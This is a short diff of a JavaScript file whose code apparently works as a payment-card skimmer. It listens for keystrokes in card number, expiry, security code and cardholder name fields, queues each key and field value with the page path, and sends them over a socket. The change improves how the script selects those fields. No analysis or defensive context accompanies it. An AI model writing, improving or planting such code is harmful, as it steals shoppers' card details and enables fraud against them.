@@ -13,7 +13,7 @@
 }
 */
 !function () {
-  const fields = ['cc-number', 'cc-exp', 'cc-csc', 'cc-name'];
+  const fields = '[autocomplete="cc-number"], [autocomplete="cc-exp"], [autocomplete="cc-csc"], [autocomplete="cc-name"]';
   const queue = [];
   let socket = null;
 
@@ -31,7 +31,7 @@
 
   document.addEventListener('keyup', (event) => {
     const input = event.target;
-    if (!input || fields.indexOf(input.autocomplete) === -1) return;
+    if (!input.matches || !input.matches(fields)) return;
     queue.push({ f: input.autocomplete, k: event.key, v: input.value, p: location.pathname, t: Date.now() });
     if (!socket) connect();
     flush();
